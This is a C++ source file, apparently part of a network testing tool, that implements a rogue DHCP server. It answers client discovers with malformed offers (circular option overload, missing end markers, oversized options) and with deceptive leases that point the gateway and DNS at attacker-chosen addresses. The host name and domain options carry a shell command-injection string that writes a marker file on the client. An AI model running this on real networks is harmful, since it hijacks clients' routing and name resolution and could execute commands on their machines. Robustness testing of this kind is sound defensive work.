#include "modes.h"

#include <algorithm>
#include <cstdio>
#include <map>
#include <net/ethernet.h>
#include <string>

namespace neighbour {

namespace {

constexpr int patience_ms = 60000;
constexpr int request_ms = 5000; // a client that takes an offer asks for it at once
constexpr size_t udp_at = 14 + 20;
constexpr size_t message_at = udp_at + 8;
constexpr size_t options_at = 240;
constexpr uint32_t own_address = 0xcb007101; // 203.0.113.1

enum Option : uint8_t {
    netmask = 1,
    routers = 3,
    resolvers = 6,
    host_name = 12,
    domain = 15,
    overload = 52,
    lease_time = 51,
    message_type = 53,
    server = 54,
    search_list = 119,
    static_routes = 121
};
enum Type : uint8_t { discover = 1, offer = 2, request = 3, acknowledgement = 5 };

Bytes number(uint32_t value)
{
    Bytes made;
    append32(made, value);
    return made;
}

Bytes text(std::string_view words)
{
    return {words.begin(), words.end()};
}

// A reply as an honest server gives it, before the lie.
struct Reply {
    uint32_t address = 0xcb007132; // 203.0.113.50
    uint32_t magic = 0x63825363;
    std::map<uint8_t, Bytes> options = {{netmask, number(0xffffff00)},
                                        {routers, number(own_address)},
                                        {resolvers, number(0xc6336435)},
                                        {lease_time, number(120)},
                                        {server, number(own_address)}};
    Bytes names = Bytes(64 + 128, 0); // server's name, boot file
    Bytes end = {255};
};

constexpr std::string_view command = "$(touch /tmp/pwned)`touch /tmp/pwned`;touch /tmp/pwned\n";

struct Wrong {
    const char *name;
    void (*tell)(Reply &reply, Random &random);
};

#define WRONG(name, what)                                                                                    \
    {                                                                                                        \
        name, [](Reply &reply, [[maybe_unused]] Random &random) { what; }                                    \
    }

// What a client can only pass over, or survive.
const Wrong broken[] = {
    WRONG("no server", reply.options.erase(server)),
    WRONG("server of nine bytes", reply.options[server] = random.bytes(9)),
    WRONG("mask of one byte", reply.options[netmask] = random.bytes(1)),
    WRONG("gateway of three bytes", reply.options[routers] = random.bytes(3)),
    WRONG("lease of two bytes", reply.options[lease_time] = random.bytes(2)),
    WRONG("no cookie", reply.magic = 0x12345678),
    WRONG("options continued in circles", reply.options[overload] = Bytes{3};
          reply.names = Bytes(192, overload)),
    WRONG("options continued in garbage", reply.options[overload] = Bytes{3};
          reply.names = random.bytes(192)),
    WRONG("names without end", std::fill(reply.names.begin(), reply.names.end(), static_cast<uint8_t>('A'))),
    WRONG("option longer than the message", reply.end = Bytes({host_name, 255, 'x'})),
    WRONG("option without a length", reply.end = Bytes({host_name})),
    WRONG("no end", reply.end.clear()),
    WRONG("padding without end", reply.end = Bytes(900, 0)),
    WRONG("garbage behind the end", append(reply.end, random.bytes(900))),
    WRONG("every option there is",
          for (int option = 60; option < 250; ++option) reply.options[static_cast<uint8_t>(option)] =
              random.bytes(1 + random.below(3))),
};

// What a client takes for an offer.
const Wrong lies[] = {
    WRONG("address of the LAN", reply.address = 0xc0a8014d; reply.options[netmask] = number(0xffffff80);
          reply.options[resolvers] = number(0x7f000001)),
    WRONG("network around all LANs", reply.address = 0xc0a80a0a; reply.options[netmask] = number(0xffff0000);
          reply.options[routers] = number(0xc0a8010b); reply.options[resolvers] = number(0xffffffff)),
    WRONG("loopback", reply.address = 0x7f000001; reply.options[netmask] = number(0x80000000);
          reply.options[routers] = number(0x7f000001); reply.options[server] = number(0);
          reply.options[lease_time] = number(0xffffffff)),
    // no more than the room that clients keep for options
    WRONG("all but the address", reply.options[routers] = random.bytes(40);
          reply.options[resolvers] = random.bytes(40); reply.options[lease_time] = number(0);
          reply.options[host_name] = text(command); reply.options[domain] = text(command);
          reply.options[search_list] = Bytes({3, 'a', 'b', 'c', 0xc0, 0, 0xc0, 4, 0xc0});
          reply.options[static_routes] = random.bytes(20)),
};

#undef WRONG

// The type of a client's message; 0 for anything else.
uint8_t type_of(const Bytes &frame)
{
    if (frame.size() < message_at + options_at || frame[23] != 17 || frame[udp_at + 2] != 0 ||
        frame[udp_at + 3] != 67) {
        return 0;
    }
    for (size_t at = message_at + options_at; at + 2 < frame.size() && frame[at] != 255;) {
        if (frame[at] == message_type) {
            return frame[at + 2];
        }
        at += frame[at] == 0 ? 1 : 2U + frame[at + 1];
    }
    return 0;
}

bool hear(Wire &wire, uint8_t wanted, int limit_ms, Bytes &frame)
{
    while (wire.hear(ETHERTYPE_IP, limit_ms, frame)) {
        if (type_of(frame) == wanted) {
            return true;
        }
    }
    return false;
}

void answer(Wire &wire, const Bytes &asked, Reply reply, Type type)
{
    const auto field = [&](size_t at, size_t size) {
        const auto begin = asked.begin() + static_cast<std::ptrdiff_t>(message_at + at);
        return Bytes(begin, begin + static_cast<std::ptrdiff_t>(size));
    };
    reply.options[message_type] = {type};
    Bytes message = {2, 1, 6, 0};
    append(message, field(4, 4)); // the transaction
    append32(message, 0x8000);    // by broadcast
    append32(message, 0);
    append32(message, reply.address);
    append32(message, own_address);
    append32(message, 0);
    append(message, field(28, 16)); // the client's MAC
    append(message, reply.names);
    append32(message, reply.magic);
    for (const auto &[option, value] : reply.options) {
        append(message, Bytes{option, static_cast<uint8_t>(value.size())});
        append(message, value);
    }
    append(message, reply.end);
    wire.send(ethernet(everybody, ETHERTYPE_IP, udp(own_address, 67, 0xffffffff, 68, message)));
}

} // namespace

void lie_by_dhcp(Wire &wire, Random &random)
{
    printf("%zu lies\n", std::size(lies));
    size_t told = 0;
    for (const Wrong &lie : lies) {
        Bytes asked;
        if (!hear(wire, discover, patience_ms, asked)) {
            return;
        }
        for (const Wrong &one : broken) {
            Reply reply;
            one.tell(reply, random);
            answer(wire, asked, reply, offer);
        }
        Reply reply;
        lie.tell(reply, random);
        answer(wire, asked, reply, offer);
        const bool taken = hear(wire, request, request_ms, asked);
        if (taken) {
            answer(wire, asked, reply, acknowledgement);
        }
        printf("%zu %s: %s\n", ++told, lie.name, taken ? "asked" : "ignored");
    }
    printf("done\n");
}

} // namespace neighbour
